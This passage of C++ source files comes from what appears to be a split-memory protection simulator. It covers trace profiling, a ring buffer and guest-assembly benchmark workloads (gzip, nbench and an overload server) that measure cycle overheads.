//   never filled before                 -> kCold        (compulsory)
//   invalidated (invlpg) since the fill -> kInvalidation
//   filled in an older flush epoch      -> kCtxSwitchFlush
//   filled in THIS epoch, yet missing   -> kCapacity    (LRU eviction)
//
// Charges made while a kernel trap is being handled are buffered in a
// scope and flushed when the handler returns; if the scope was refined to
// a split-load category by an event, ALL its charges (trap cost, walk,
// kernel touch, the follow-up debug trap) land in that one bucket — the
// full protocol cost of the reload, which is what SS4.6 tabulates.
#pragma once

#include <array>
#include <cstddef>
#include <string>
#include <unordered_map>
#include <vector>

#include "trace/event.h"

namespace sm::snapshot {
struct Access;
}

namespace sm::trace {

enum class Category : u8 {
  kExec = 0,
  kTlbHit,
  kTlbWalk,
  kSplitItlbLoad,
  kSplitDtlbLoad,
  kPageFaultTrap,
  kDebugTrap,
  kInvalidOpcodeTrap,
  kSyscall,
  kSoftTlbFill,
  kDemandPage,
  kCowCopy,
  kKernelTouch,
  kIcacheSync,
  kContextSwitch,
  kOther,
  kCount,
};

enum class Cause : u8 {
  kNone = 0,
  kCold,
  kCapacity,
  kCtxSwitchFlush,
  kInvalidation,
  kCount,
};

const char* category_name(Category c);
const char* cause_name(Cause c);

struct Bucket {
  Category category = Category::kOther;
  Cause cause = Cause::kNone;
  u32 pid = 0;
  u32 vpn = 0;  // page bucket (vaddr >> 12); 0 for unaddressed charges
  u64 cycles = 0;
};

struct ProfileSummary {
  // Sorted by (category, cause, pid, vpn).
  std::vector<Bucket> buckets;
  u64 total_cycles = 0;
  std::array<u64, static_cast<std::size_t>(EventKind::kCount)> event_counts{};
  u64 events_recorded = 0;
  u64 events_dropped = 0;
  std::size_t ring_capacity = 0;

  u64 category_cycles(Category c) const;
  u64 cause_cycles(Cause c) const;  // summed over the split-load categories
  // SS4.6 rollups: cycles attributable to each overhead source.
  u64 ctx_switch_flush_cycles() const;  // ctx-switch charges + flush reloads
  u64 capacity_fault_cycles() const;
};

// Deterministic human-readable report (the --trace-summary trailer).
// When `requests` is non-zero the per-category lines and the SS4.6
// decomposition gain a cycles/request column, tying the attribution to
// request-level cost under the server-load workload (output without the
// flag is byte-identical to the one-argument form).
std::string format_summary(const ProfileSummary& s, u64 requests = 0);

class Profiler {
 public:
  // Feed every recorded event through here: maintains the flush epoch,
  // fill state, cause classification and scope refinement.
  void on_event(const Event& e);

  // A CostModel charge of `cycles`, made by `pid` at `vaddr` (0 if the
  // charge has no natural address).
  void charge(Category c, u64 cycles, u32 pid, u32 vaddr);

  // Trap-handler attribution scope (see file comment). Never nested.
  void begin_scope(Category c, u32 pid, u32 vaddr);
  void end_scope();
  bool in_scope() const { return scope_.active; }

  ProfileSummary snapshot() const;
  void clear();

 private:
  friend struct sm::snapshot::Access;

  struct Fill {
    u64 epoch = 0;
    bool invalidated = false;
  };
  struct Scope {
    bool active = false;
    bool refined = false;
    Category refined_cat = Category::kOther;
    Cause refined_cause = Cause::kNone;
    u32 pid = 0;
    u32 vpn = 0;
    std::array<u64, static_cast<std::size_t>(Category::kCount)> cycles{};
  };

  static u64 fill_key(u32 pid, u32 vpn, u8 side) {
    return (static_cast<u64>(pid) << 21) | (static_cast<u64>(vpn) << 1) | side;
  }
  static u64 bucket_key(Category c, Cause cause, u32 pid, u32 vpn) {
    return (static_cast<u64>(pid) << 28) | (static_cast<u64>(vpn) << 8) |
           (static_cast<u64>(c) << 3) | static_cast<u64>(cause);
  }
  void bucket_add(Category c, Cause cause, u32 pid, u32 vpn, u64 cycles);
  Cause classify_and_record_fill(u32 pid, u32 vpn, u8 side);
  void refine_scope(Category c, Cause cause);

  std::unordered_map<u64, u64> buckets_;
  std::unordered_map<u64, Fill> fills_;
  // pid -> attribution for the debug trap that closes its open single-step
  // window (set at kSingleStepOpen from the active scope's refinement).
  std::unordered_map<u32, std::pair<Category, Cause>> pending_step_;
  std::array<u64, static_cast<std::size_t>(EventKind::kCount)> event_counts_{};
  u64 flush_epoch_ = 0;
  u64 total_cycles_ = 0;
  Scope scope_;
};

}  // namespace sm::trace
