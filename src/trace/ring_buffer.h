// Fixed-capacity overwrite-oldest ring buffer for trace events.
//
// The trace sink must never grow without bound while a long simulation
// runs, so the event store is a ring: once full, each push overwrites the
// oldest event and bumps dropped(). Iteration order is always
// oldest-to-newest over whatever survived, which keeps the exported
// timeline monotonic even after a wrap.
#pragma once

#include <cstddef>
#include <cstdint>
#include <vector>

namespace sm::snapshot {
struct Access;
}

namespace sm::trace {

template <typename T>
class RingBuffer {
 public:
  explicit RingBuffer(std::size_t capacity) : buf_(capacity) {}

  void push(const T& v) {
    if (buf_.empty()) {
      ++dropped_;
      return;
    }
    if (size_ == buf_.size()) {
      // Full: overwrite the oldest slot.
      buf_[head_] = v;
      head_ = next(head_);
      ++dropped_;
      return;
    }
    buf_[(head_ + size_) % buf_.size()] = v;
    ++size_;
  }

  std::size_t size() const { return size_; }
  std::size_t capacity() const { return buf_.size(); }
  bool empty() const { return size_ == 0; }
  // Events pushed after the buffer was full (== overwritten or, for a
  // zero-capacity ring, discarded outright).
  std::uint64_t dropped() const { return dropped_; }

  // i == 0 is the oldest surviving event.
  const T& operator[](std::size_t i) const {
    return buf_[(head_ + i) % buf_.size()];
  }

  void clear() {
    head_ = 0;
    size_ = 0;
    dropped_ = 0;
  }

 private:
  friend struct sm::snapshot::Access;

  std::size_t next(std::size_t i) const {
    return i + 1 == buf_.size() ? 0 : i + 1;
  }

  std::vector<T> buf_;
  std::size_t head_ = 0;  // index of the oldest event
  std::size_t size_ = 0;
  std::uint64_t dropped_ = 0;
};

}  // namespace sm::trace
