#include "trace/trace.h"

namespace sm::trace {

ProfileSummary TraceSink::summary() const {
  ProfileSummary s = prof_.snapshot();
  // Straight-line execution (the per-instruction charge and zero-or-tiny
  // TLB-hit charges) is deliberately NOT mirrored at the charge sites — a
  // mirror there would put a trace branch on the two hottest paths in the
  // simulator (Cpu::step and the Mmu fast paths). Reconcile it here
  // instead: every simulated cycle not explicitly attributed is
  // straight-line execution. This keeps the full-attribution invariant
  // (summary total == stats.cycles) without any per-instruction cost.
  if (stats_ && stats_->cycles > s.total_cycles) {
    const u64 residual = stats_->cycles - s.total_cycles;
    // (kExec, kNone, pid 0, vpn 0) sorts before every other bucket.
    if (!s.buckets.empty() && s.buckets.front().category == Category::kExec &&
        s.buckets.front().cause == Cause::kNone &&
        s.buckets.front().pid == 0 && s.buckets.front().vpn == 0) {
      s.buckets.front().cycles += residual;
    } else {
      Bucket b;
      b.category = Category::kExec;
      b.cause = Cause::kNone;
      b.pid = 0;
      b.vpn = 0;
      b.cycles = residual;
      s.buckets.insert(s.buckets.begin(), b);
    }
    s.total_cycles = stats_->cycles;
  }
  s.events_recorded = ring_.size() + ring_.dropped();
  s.events_dropped = ring_.dropped();
  s.ring_capacity = ring_.capacity();
  return s;
}

}  // namespace sm::trace
