// TraceSink: the event sink + profiler facade the simulator components
// talk to, and the compile-time gate that makes it all vanish.
//
// Gating has two layers:
//
//  1. Compile time. Instrumentation sites go through the SM_TRACE macro
//     (and SM_TRACE_SINK for the RAII scope). With -DSM_TRACE_ENABLED=0
//     (CMake: -DSM_TRACE=OFF) every site compiles to nothing — the binary
//     carries zero tracing code on its hot paths.
//  2. Run time. When compiled in (the default), each component holds a
//     TraceSink* that is nullptr unless KernelConfig::trace is set; each
//     rare-event site costs one (unlikely-hinted) branch on that pointer.
//     The per-instruction paths (Cpu::step, Mmu TLB-hit fast paths) carry
//     NO trace code at all — their cycles are reconciled at summary time
//     as the exec residual (see TraceSink::summary).
//
// The billing-identity invariant: a TraceSink only ever OBSERVES — it
// holds `const metrics::Stats*`, never charges the cost model, and never
// perturbs TLB/memo state. Simulated figures must be bit-identical with
// tracing on or off (enforced by tests/trace/ and the fuzz oracle).
#pragma once

#include <cstddef>

#include "metrics/stats.h"
#include "trace/event.h"
#include "trace/profiler.h"
#include "trace/ring_buffer.h"

#ifndef SM_TRACE_ENABLED
#define SM_TRACE_ENABLED 1
#endif

#if SM_TRACE_ENABLED
// SM_TRACE(sink_ptr, record(...)) — null-checked call through a sink.
// The null (tracing-off) side is the one benchmarked paths take; mark the
// sink-present side unlikely so the call stays out of the hot code layout.
#define SM_TRACE(sink, call)              \
  do {                                    \
    if (auto* sm_ts_ = (sink)) [[unlikely]] { \
      sm_ts_->call;                       \
    }                                     \
  } while (0)
// Sink expression for contexts that need a value (e.g. trace::Scope).
#define SM_TRACE_SINK(sink) (sink)
#else
#define SM_TRACE(sink, call) \
  do {                       \
  } while (0)
#define SM_TRACE_SINK(sink) (static_cast<::sm::trace::TraceSink*>(nullptr))
#endif

namespace sm::snapshot {
struct Access;
}

namespace sm::trace {

class TraceSink {
 public:
  struct Options {
    std::size_t ring_capacity = 1 << 16;
  };

  TraceSink() : ring_(0) {}

  void enable() { enable(Options{}); }
  void enable(Options opts) {
    ring_ = RingBuffer<Event>(opts.ring_capacity);
    prof_.clear();
    enabled_ = true;
  }
  bool enabled() const { return enabled_; }

  // The simulated clock events are stamped with. Observed, never written.
  void set_stats(const metrics::Stats* stats) { stats_ = stats; }
  // The scheduler announces who is running; events/charges carry this pid.
  void set_current_pid(u32 pid) { pid_ = pid; }
  u32 current_pid() const { return pid_; }
  // The SMP run loop announces the dispatching core; events carry this id
  // (always 0 at cores=1, so single-core traces are unchanged).
  void set_current_core(u8 core) { core_ = core; }
  u8 current_core() const { return core_; }

  void record(EventKind kind, u32 vaddr = 0, u32 info = 0, u8 arg = 0) {
    if (!enabled_) return;
    Event e;
    e.cycles = stats_ ? stats_->cycles : 0;
    e.pid = pid_;
    e.vaddr = vaddr;
    e.info = info;
    e.kind = kind;
    e.arg = arg;
    e.core = core_;
    ring_.push(e);
    prof_.on_event(e);
  }

  // Mirror of a CostModel charge, for attribution only.
  void charge(Category c, u64 cycles, u32 vaddr = 0) {
    if (!enabled_ || cycles == 0) return;
    prof_.charge(c, cycles, pid_, vaddr);
  }

  void begin_scope(Category c, u32 vaddr) {
    if (!enabled_) return;
    prof_.begin_scope(c, pid_, vaddr);
  }
  void end_scope() {
    if (!enabled_) return;
    prof_.end_scope();
  }

  const RingBuffer<Event>& events() const { return ring_; }
  ProfileSummary summary() const;
  void clear() {
    ring_.clear();
    prof_.clear();
  }

 private:
  friend struct sm::snapshot::Access;

  RingBuffer<Event> ring_;
  Profiler prof_;
  const metrics::Stats* stats_ = nullptr;
  u32 pid_ = 0;
  u8 core_ = 0;
  bool enabled_ = false;
};

// RAII trap-handler attribution scope. Construct with a (possibly null)
// sink; wrap the sink expression in SM_TRACE_SINK so the whole object
// folds away under -DSM_TRACE_ENABLED=0.
class Scope {
 public:
  Scope(TraceSink* sink, Category c, u32 vaddr) : sink_(sink) {
    if (sink_) sink_->begin_scope(c, vaddr);
  }
  ~Scope() {
    if (sink_) sink_->end_scope();
  }
  Scope(const Scope&) = delete;
  Scope& operator=(const Scope&) = delete;

 private:
  TraceSink* sink_;
};

}  // namespace sm::trace
