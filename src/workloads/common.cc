#include <cmath>

#include "core/split_engine.h"
#include "workloads/internal.h"
#include "workloads/workload.h"

namespace sm::workloads {

std::unique_ptr<kernel::ProtectionEngine> Protection::make_engine() const {
  std::unique_ptr<kernel::ProtectionEngine> engine;
  if (split_fraction) {
    engine = std::make_unique<core::SplitMemoryEngine>(
        core::SplitPolicy::fraction(*split_fraction, fraction_seed),
        core::ResponseMode::kBreak);
  } else {
    engine = core::make_engine(mode);
  }
  if (auto* split = dynamic_cast<core::SplitMemoryEngine*>(engine.get())) {
    split->set_itlb_load_method(itlb_method);
  }
  return engine;
}

std::string Protection::label() const {
  std::string l;
  if (split_fraction) {
    l = "split-" + std::to_string(*split_fraction) + "%";
  } else {
    l = core::to_string(mode);
  }
  if (software_tlb) l += "+soft-tlb";
  if (itlb_method == core::ItlbLoadMethod::kRetCall) l += "+ret-call";
  return l;
}

double normalized(const WorkloadResult& baseline,
                  const WorkloadResult& protected_r) {
  const u64 b = baseline.sim_time != 0 ? baseline.sim_time : baseline.cycles;
  const u64 p =
      protected_r.sim_time != 0 ? protected_r.sim_time : protected_r.cycles;
  if (p == 0) return 0;
  return static_cast<double>(b) / static_cast<double>(p);
}

namespace internal {

WorkloadResult run_program(const std::string& name, const std::string& body,
                           const Protection& prot, kernel::KernelConfig cfg,
                           u64 budget,
                           const std::function<void(kernel::Kernel&)>& setup) {
  WorkloadResult res;
  res.name = name;
  cfg.software_tlb = cfg.software_tlb || prot.software_tlb;
  cfg.trace = cfg.trace || prot.trace;
  // The paper's figure workloads are single-core by definition; SMP runs
  // are opt-in per workload config (e.g. server_load --cores), never via
  // the SM_CORES environment override.
  if (cfg.cores == 0) cfg.cores = 1;
  kernel::Kernel k(cfg);
  k.set_engine(prot.make_engine());
  const auto program = assembler::assemble(guest::program(body));
  image::BuildOptions opts;
  opts.name = name;
  k.register_image(image::build_image(program, opts));
  if (setup) setup(k);
  const kernel::Pid pid = k.spawn(name);
  const auto rr = k.run(budget);
  res.completed = rr == kernel::Kernel::RunResult::kAllExited &&
                  k.process(pid)->exit_kind == kernel::ExitKind::kExited;
  res.cycles = k.stats().cycles;
  res.stats = k.stats();
  if (auto* sink = k.trace_sink()) {
    res.trace_summary =
        std::make_shared<trace::ProfileSummary>(sink->summary());
  }
  return res;
}

}  // namespace internal
}  // namespace sm::workloads
