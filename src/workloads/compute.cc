// Compute-bound workloads: the gzip-style compressor and the nbench-style
// kernel suite (paper Fig. 6, "gzip" and "nbench" bars).
#include "workloads/internal.h"
#include "workloads/workload.h"

namespace sm::workloads {

namespace {

// gzip-style: fill a large input with an LCG, compress with a last-seen
// hash table and back-reference probes (random reads across the whole
// input, the TLB-pressure driver), then a verify pass over the output.
std::string gzip_source(u32 bytes) {
  return ".equ INSIZE, " + std::to_string(bytes) + "\n" + R"(
_start:
  ; fill input with pseudo-random bytes
  movi r1, gz_in
  movi r2, 0
  movi r3, 12345
gz_fill:
  movi r4, 1103515245
  mul r3, r4
  addi r3, 12345
  mov r4, r3
  movi r5, 16
  shr r4, r5
  storeb [r1], r4
  addi r1, 1
  addi r2, 1
  cmpi r2, INSIZE
  jnz gz_fill
  ; compress: hash last position of each byte value; probe the previous
  ; occurrence (a back-reference read) and emit literal^ref
  movi r1, gz_in
  movi r2, gz_out
  movi r0, 0
gz_comp:
  loadb r3, [r1]
  mov r4, r3
  movi r5, 2
  shl r4, r5
  addi r4, gz_hash
  load r5, [r4]
  store [r4], r0
  addi r5, gz_in
  loadb r5, [r5]
  xor r3, r5
  ; every 128 bytes, probe a far back-reference (dictionary lookup across
  ; the whole window): the TLB-pressure access pattern of real compressors
  mov r4, r0
  movi r5, 255
  and r4, r5
  cmpi r4, 0
  jnz gz_nofar
  mov r4, r0
  movi r5, 2654435761
  mul r4, r5
  movi r5, INSIZE
  modu r4, r5
  addi r4, gz_in
  loadb r5, [r4]
  xor r3, r5
gz_nofar:
  storeb [r2], r3
  addi r1, 1
  addi r2, 1
  addi r0, 1
  cmpi r0, INSIZE
  jnz gz_comp
  ; verify: checksum the output stream
  movi r1, gz_out
  movi r2, 0
  movi r0, 0
gz_verify:
  loadb r3, [r1]
  add r2, r3
  addi r1, 1
  addi r0, 1
  cmpi r0, INSIZE
  jnz gz_verify
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
gz_hash: .space 1024
gz_in:   .space INSIZE
gz_out:  .space INSIZE
)";
}

// nbench-style kernels: numeric sort (insertion), string bubble sort,
// bitfield manipulation, integer-arithmetic emulation. Small working sets.
std::string nbench_source(u32 scale) {
  return ".equ SCALE, " + std::to_string(scale) + "\n" + R"(
.equ NSORT, 400
.equ SSORT, 256
_start:
  movi r5, SCALE
nb_outer:
  push r5
  call nb_numsort
  call nb_strsort
  call nb_bitfield
  call nb_intmath
  call nb_assign
  pop r5
  addi r5, -1
  cmpi r5, 0
  jnz nb_outer
  movi r0, SYS_EXIT
  movi r1, 0
  syscall

; insertion sort over NSORT LCG-filled words
nb_numsort:
  movi r1, nums
  movi r2, 0
  movi r3, 99991
ns_fill:
  movi r4, 1103515245
  mul r3, r4
  addi r3, 12345
  store [r1], r3
  addi r1, 4
  addi r2, 1
  cmpi r2, NSORT
  jnz ns_fill
  movi r0, 1                ; i
ns_outer:
  cmpi r0, NSORT
  jz ns_done
  mov r1, r0                ; j
ns_inner:
  cmpi r1, 0
  jz ns_next
  ; compare nums[j-1] > nums[j] (unsigned)
  mov r2, r1
  movi r3, 4
  mul r2, r3
  addi r2, nums
  load r3, [r2-4]
  load r4, [r2]
  cmp r3, r4
  jb ns_next                ; already ordered
  store [r2-4], r4
  store [r2], r3
  addi r1, -1
  jmp ns_inner
ns_next:
  addi r0, 1
  jmp ns_outer
ns_done:
  ret

; bubble sort over SSORT bytes
nb_strsort:
  movi r1, chars
  movi r2, 0
  movi r3, 777
ss_fill:
  movi r4, 69069
  mul r3, r4
  addi r3, 1
  mov r4, r3
  movi r5, 24
  shr r4, r5
  storeb [r1], r4
  addi r1, 1
  addi r2, 1
  cmpi r2, SSORT
  jnz ss_fill
  movi r0, 0                ; pass
ss_outer:
  cmpi r0, SSORT
  jz ss_done
  movi r1, chars
  movi r2, 1                ; index
ss_inner:
  cmpi r2, SSORT
  jz ss_next
  loadb r3, [r1]
  loadb r4, [r1+1]
  cmp r3, r4
  jb ss_skip
  storeb [r1], r4
  storeb [r1+1], r3
ss_skip:
  addi r1, 1
  addi r2, 1
  jmp ss_inner
ss_next:
  addi r0, 1
  jmp ss_outer
ss_done:
  ret

; bitfield twiddling over a 2 KiB bitmap
nb_bitfield:
  movi r0, 0                ; op counter
bf_loop:
  mov r1, r0
  movi r2, 8191
  and r1, r2
  mov r2, r1
  movi r3, 5
  shr r2, r3                ; word index
  movi r3, 4
  mul r2, r3
  addi r2, bitmap
  movi r3, 31
  and r1, r3                ; bit index
  movi r4, 1
  mov r3, r1
  shl r4, r3
  load r5, [r2]
  xor r5, r4
  store [r2], r5
  addi r0, 1
  cmpi r0, 16384
  jnz bf_loop
  ret

; memory assignment across a 384 KiB matrix (the one nbench kernel whose
; working set exceeds the TLB reach)
nb_assign:
  movi r0, 0
nba_loop:
  mov r1, r0
  movi r2, 2654435761
  mul r1, r2
  movi r2, 262144
  modu r1, r2
  movi r2, 0xfffffffc
  and r1, r2
  addi r1, matrix
  load r2, [r1]
  addi r2, 1
  store [r1], r2
  addi r0, 1
  cmpi r0, 150
  jnz nba_loop
  ret

; integer multiply/divide emulation loop
nb_intmath:
  movi r0, 0
  movi r1, 0x12345
im_loop:
  mov r2, r1
  movi r3, 1021
  mul r2, r3
  addi r2, 17
  movi r3, 97
  div r2, r3
  xor r1, r2
  mov r4, r1
  movi r3, 13
  modu r4, r3
  add r1, r4
  addi r0, 1
  cmpi r0, 20000
  jnz im_loop
  ret

.bss
nums:   .space 1600
chars:  .space 256
bitmap: .space 2048
matrix: .space 262144
)";
}

}  // namespace

WorkloadResult run_gzip(const Protection& prot, u32 kilobytes) {
  WorkloadResult res = internal::run_program(
      "gzip", gzip_source(kilobytes * 1024), prot);
  if (res.cycles != 0) {
    res.throughput =
        static_cast<double>(kilobytes) * 1024 * 1e6 / res.cycles;
  }
  return res;
}

WorkloadResult run_nbench(const Protection& prot, u32 scale) {
  WorkloadResult res =
      internal::run_program("nbench", nbench_source(scale), prot);
  if (res.cycles != 0) {
    res.throughput = static_cast<double>(scale) * 1e6 / res.cycles;
  }
  return res;
}

}  // namespace sm::workloads
