// Shared internals of the workload runners.
#pragma once

#include <functional>
#include <string>

#include "asm/assembler.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "kernel/kernel.h"
#include "workloads/workload.h"

namespace sm::workloads::internal {

// Assembles `body`, boots a kernel under `prot`, runs the single guest to
// completion (or budget) and collects cycles/stats. `setup` may register
// extra images or seed the filesystem before spawn.
WorkloadResult run_program(
    const std::string& name, const std::string& body, const Protection& prot,
    kernel::KernelConfig cfg = {}, u64 budget = 2'000'000'000,
    const std::function<void(kernel::Kernel&)>& setup = nullptr);

}  // namespace sm::workloads::internal
