// Overload server workload: an OPEN-LOOP arrival stream against a
// shedding master + worker pool, for the graceful-degradation study.
//
// Topology (fd numbers as the guest sees them):
//
//   host --channel(fd 0)--> master --request pipe (wr fd 3)--> workers (rd fd 2)
//   host <--channel(fd 0)-- master <--connect(PORT)/accept(lfd 4)-- workers
//
// Unlike run_server_load's closed loop, the host does NOT wait for
// completions: arrivals are scheduled up front from seeded exponential
// inter-arrival times at the configured offered rate and delivered the
// moment simulated time passes each one. Past saturation the master must
// shed — it drops arrivals that are already `deadline` cycles old and
// arrivals beyond the `qdepth` in-flight cap — and every blocking wait in
// its event loop carries a deadline timer, so a stalled or killed worker
// costs goodput instead of wedging the loop (three consecutive timeouts
// with work outstanding expire one lease).
//
// Responses come back over the simulated socket layer: each worker opens
// a fresh connect() to the master's listening port for every response.
// The accept backlog is deliberately small, so under overload workers see
// ERR_REFUSED and retry with exponential backoff plus seeded jitter,
// giving up after `max_attempts`. Every outcome is reported to the host
// as an 8-byte {tag, value} channel record; channel writes are atomic so
// records never interleave.
//
// Everything — the arrival schedule included — is computed from plain
// IEEE arithmetic and splitmix64 draws, so a run is a pure function of
// (Protection, OverloadConfig): byte-identical across hosts, --jobs, and
// repeat runs.
#include <string>
#include <utility>
#include <vector>

#include "workloads/internal.h"
#include "workloads/workload.h"

namespace sm::workloads {

namespace {

// .equ WORKERS/WORKBASE/QDEPTH/BACKLOG/DEADLINE/RTIMEO/STIMEO/MAXA/BBASE/
// JMASK/PORT are prepended per config.
const char* kOverloadBody = R"(
_start:
  movi r0, SYS_PIPE        ; request pipe: rd=2, wr=3
  movi r1, reqfds
  syscall
  movi r5, WORKERS
m_spawn:
  movi r0, SYS_FORK
  syscall
  cmpi r0, 0
  jz worker
  addi r5, -1
  cmpi r5, 0
  jnz m_spawn
  movi r0, SYS_LISTEN      ; after the forks: workers must not inherit
  movi r1, PORT            ; the listening port
  movi r2, BACKLOG
  syscall                  ; lfd = 4
  movi r5, 0               ; r5 = admitted requests in flight
  movi r6, 0               ; r6 = consecutive event-loop timeouts
m_loop:
  movi r0, SYS_SELECT2_T   ; responses (listen fd) before arrivals, so
  movi r1, 4               ; the queue drains before it grows
  movi r2, 0
  movi r3, STIMEO
  syscall
  cmpi r0, 0
  jz m_resp
  cmpi r0, 1
  jz m_arrival
  ; Timed out. With work outstanding, three strikes in a row mean a
  ; response was lost (stalled or dropped worker): expire one lease so
  ; the admission credit comes back and the loop cannot wedge.
  cmpi r5, 0
  jz m_loop
  addi r6, 1
  cmpi r6, 3
  jb m_loop
  mov r1, r5
  movi r0, 5               ; {5, in flight}: lease expired
  call report
  addi r5, -1
  movi r6, 0
  jmp m_loop
m_resp:
  movi r6, 0
  call handle_resp
  jmp m_loop
m_arrival:
  movi r6, 0
  movi r0, SYS_READ        ; one whole 8-byte arrival {id, stamp}
  movi r1, 0
  movi r2, abuf
  movi r3, 8
  syscall
  cmpi r0, 0
  jz m_drain               ; EOF: the arrival stream is done
  movi r0, SYS_TIME        ; shed arrivals that are already stale
  syscall
  movi r4, abuf
  load r1, [r4+4]
  sub r0, r1               ; age = now - scheduled arrival (u32 wrap)
  cmpi r0, DEADLINE
  jae m_shed_deadline
  cmpi r5, QDEPTH          ; shed when the in-flight queue is full
  jae m_shed_queue
  movi r0, SYS_WRITE       ; admit: forward {id, stamp} to the pool
  movi r1, 3
  movi r2, abuf
  movi r3, 8
  syscall
  addi r5, 1
  jmp m_loop
m_shed_deadline:
  movi r4, abuf
  load r1, [r4]
  movi r0, 2               ; {2, id}: past deadline at admission
  call report
  jmp m_loop
m_shed_queue:
  movi r4, abuf
  load r1, [r4]
  movi r0, 1               ; {1, id}: in-flight cap hit
  call report
  jmp m_loop
m_drain:
  cmpi r5, 0
  jz m_shutdown
  call handle_resp
  cmpi r0, ERR_TIMEDOUT
  jnz m_dr_got
  addi r6, 1
  cmpi r6, 3
  jb m_drain
  mov r1, r5
  movi r0, 5               ; {5, in flight}: lease expired in drain
  call report
  addi r5, -1
m_dr_got:
  movi r6, 0
  jmp m_drain
m_shutdown:
  movi r0, SYS_CLOSE       ; EOF fans out to every idle worker
  movi r1, 3
  syscall
  movi r0, SYS_EXIT        ; exit releases the listen fd: the port closes
  movi r1, 0               ; and straggling connects fail fast
  syscall

; Accepts one connection and reads the 12-byte response off it. Reports
; {0, latency} on success, {5, 0} when the peer never delivers a whole
; response. Accept timeouts pass through in r0. Clobbers r0-r4;
; decrements r5 unless it is already zero (an expired lease may still
; complete late — the in-flight count must never underflow).
handle_resp:
  movi r0, SYS_ACCEPT
  movi r1, 4
  movi r2, RTIMEO
  syscall
  cmpi r0, ERR_TIMEDOUT
  jz hr_ret
  movi r4, connfd
  store [r4], r0
  mov r1, r0
  movi r0, SYS_READ_T
  movi r2, respbuf
  movi r3, 12
  movi r4, RTIMEO
  syscall
  cmpi r0, 12
  jz hr_ok
  movi r1, 0
  movi r0, 5               ; {5, 0}: connection without a whole response
  call report
  jmp hr_close
hr_ok:
  movi r0, SYS_TIME
  syscall
  movi r4, respbuf
  load r1, [r4+4]          ; the scheduled-arrival stamp rode along
  sub r0, r1               ; latency = now - arrival (u32 wraparound)
  mov r1, r0
  movi r0, 0               ; {0, latency}: a completion
  call report
hr_close:
  movi r0, SYS_CLOSE
  movi r4, connfd
  load r1, [r4]
  syscall
  cmpi r5, 0
  jz hr_done
  addi r5, -1
hr_done:
  movi r0, 0
hr_ret:
  ret

; report(r0 = tag, r1 = value): one 8-byte record to the host channel.
; Clobbers r0-r4.
report:
  movi r4, repbuf
  store [r4], r0
  store [r4+4], r1
  movi r0, SYS_WRITE
  movi r1, 0
  movi r2, repbuf
  movi r3, 8
  syscall
  ret

worker:
  movi r0, SYS_CLOSE       ; drop the inherited request-pipe write end so
  movi r1, 3               ; the master alone controls EOF
  syscall
w_loop:
  movi r0, SYS_READ        ; one whole 8-byte request (0 = EOF, retire)
  movi r1, 2
  movi r2, wreq
  movi r3, 8
  syscall
  cmpi r0, 0
  jz w_exit
  movi r4, wreq            ; service time = WORKBASE + (id & 63) * 8
  load r2, [r4]
  mov r3, r2
  movi r1, 63
  and r3, r1
  movi r1, 8
  mul r3, r1
  addi r3, WORKBASE
  movi r1, 0               ; r1 = checksum
w_work:
  movi r0, 1103515245      ; LCG step + a data-page touch per iteration
  mul r2, r0
  addi r2, 12345
  mov r0, r2
  movi r4, 0x1FFF
  and r0, r4
  addi r0, wbuf
  loadb r4, [r0]
  add r1, r4
  storeb [r0], r1
  addi r3, -1
  cmpi r3, 0
  jnz w_work
  movi r4, wreq            ; response = {id, stamp, checksum}
  load r0, [r4]
  movi r4, wresp
  store [r4], r0
  movi r4, wreq
  load r0, [r4+4]
  movi r4, wresp
  store [r4+4], r0
  store [r4+8], r1
  movi r5, 0               ; r5 = connect attempts so far
  movi r6, BBASE           ; r6 = next backoff, doubles per refusal
w_try:
  movi r0, SYS_CONNECT
  movi r1, PORT
  syscall
  cmpi r0, ERR_REFUSED     ; unsigned >= also catches a closed port
  jae w_refused            ; (ERR_RESULT) once the master has exited
  mov r1, r0               ; deliver over the fresh connection
  movi r0, SYS_WRITE
  movi r2, wresp
  movi r3, 12
  syscall
  movi r0, SYS_CLOSE
  syscall                  ; r1 still holds the socket fd
  jmp w_loop
w_refused:
  mov r1, r5
  movi r0, 4               ; {4, attempt}: refused, will back off or drop
  call report
  addi r5, 1
  cmpi r5, MAXA
  jae w_drop
  movi r0, SYS_RAND        ; exponential backoff + seeded jitter breaks
  syscall                  ; retry synchronization across the pool
  movi r1, JMASK
  and r0, r1
  add r0, r6
  mov r1, r0
  movi r0, SYS_SLEEP
  syscall
  add r6, r6
  jmp w_try
w_drop:
  movi r4, wreq
  load r1, [r4]
  movi r0, 3               ; {3, id}: gave up on delivery
  call report
  jmp w_loop
w_exit:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.bss
reqfds:  .space 8
abuf:    .space 8
respbuf: .space 12
repbuf:  .space 8
connfd:  .space 4
wreq:    .space 8
wresp:   .space 12
wbuf:    .space 8192
)";

arch::u64 splitmix64(arch::u64& s) {
  s += 0x9E3779B97F4A7C15ull;
  arch::u64 z = s;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

// ln(x) for x in (0, 2) without libm: normalize x to m * 2^e with m in
// [1, 2), then ln m via the atanh series 2(z + z^3/3 + z^5/5 + ...) with
// z = (m - 1)/(m + 1) (|z| <= 1/3, nine terms put the truncation error
// below 1e-9 relative). Plain IEEE adds/multiplies/divides only, so the
// arrival schedule is bit-identical across hosts.
double soft_ln(double x) {
  int e = 0;
  double m = x;
  while (m < 1.0) {
    m *= 2.0;
    --e;
  }
  while (m >= 2.0) {
    m *= 0.5;
    ++e;
  }
  const double z = (m - 1.0) / (m + 1.0);
  const double z2 = z * z;
  double term = z;
  double sum = 0.0;
  for (int i = 0; i < 9; ++i) {
    sum += term / static_cast<double>(2 * i + 1);
    term *= z2;
  }
  return 2.0 * sum + static_cast<double>(e) * 0.6931471805599453;
}

// Maps a splitmix64 draw to (0, 1] — never 0, so -ln(u) is always finite.
double unit_open(arch::u64 r) {
  return static_cast<double>((r >> 11) + 1) * 0x1p-53;
}

}  // namespace

OverloadResult run_overload_load(const Protection& prot,
                                 const OverloadConfig& cfg) {
  OverloadResult out;
  out.base.name = "overload-" + std::to_string(cfg.workers) + "w";
  out.offered_rpmc = cfg.offered_rpmc;

  kernel::KernelConfig kcfg;
  kcfg.phys_frames = cfg.phys_frames;
  kcfg.cores = cfg.cores == 0 ? 1 : cfg.cores;
  kcfg.cost = cfg.cost;
  kcfg.software_tlb = prot.software_tlb;
